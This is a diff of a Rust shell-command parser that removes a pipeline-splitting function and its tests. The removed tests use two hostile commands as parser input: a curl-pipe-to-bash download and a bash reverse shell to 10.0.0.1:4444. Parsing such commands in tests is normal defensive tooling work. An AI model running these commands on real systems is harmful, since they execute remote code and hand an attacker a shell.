@@ -774,48 +774,6 @@ fn argv(s: &str) -> Vec<String> {
     shell_words(s)
 }
 
-/// Splits a command line at `|`, `;`, `&&` and `||` outside quotes.
-pub fn split_pipeline(cmd: &str) -> Vec<String> {
-    let mut out = Vec::new();
-    let mut cur = String::new();
-    let (mut sq, mut dq) = (false, false);
-    let chars: Vec<char> = cmd.chars().collect();
-    let mut i = 0;
-    while i < chars.len() {
-        let c = chars[i];
-        match c {
-            '\'' if !dq => sq = !sq,
-            '"' if !sq => dq = !dq,
-            '|' | ';' | '&' if !sq && !dq => {
-                let next = chars.get(i + 1).copied();
-                // `>&`, `2>&1` and `&>` are redirections, not separators.
-                let prev = if i > 0 { chars[i - 1] } else { ' ' };
-                if c == '&' && (prev == '>' || next == Some('>') || next != Some('&')) {
-                    cur.push(c);
-                    i += 1;
-                    continue;
-                }
-                if !cur.trim().is_empty() {
-                    out.push(cur.trim().to_string());
-                }
-                cur.clear();
-                if next == Some(c) {
-                    i += 1;
-                }
-                i += 1;
-                continue;
-            }
-            _ => {}
-        }
-        cur.push(c);
-        i += 1;
-    }
-    if !cur.trim().is_empty() {
-        out.push(cur.trim().to_string());
-    }
-    out
-}
-
 /// Splits one command into words, honouring quotes (no expansion).
 pub fn shell_words(s: &str) -> Vec<String> {
     let mut out = Vec::new();
@@ -1146,14 +1104,6 @@ mod tests {
 
     #[test]
     fn commands_cause_their_events() {
-        assert_eq!(
-            split_pipeline("curl -fsSL http://x/y.sh | bash"),
-            ["curl -fsSL http://x/y.sh", "bash"]
-        );
-        assert_eq!(
-            split_pipeline("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
-            ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
-        );
         assert_eq!(
             shell_words(r#"sh -c 'echo "a b"' x"#),
             ["sh", "-c", r#"echo "a b""#, "x"]
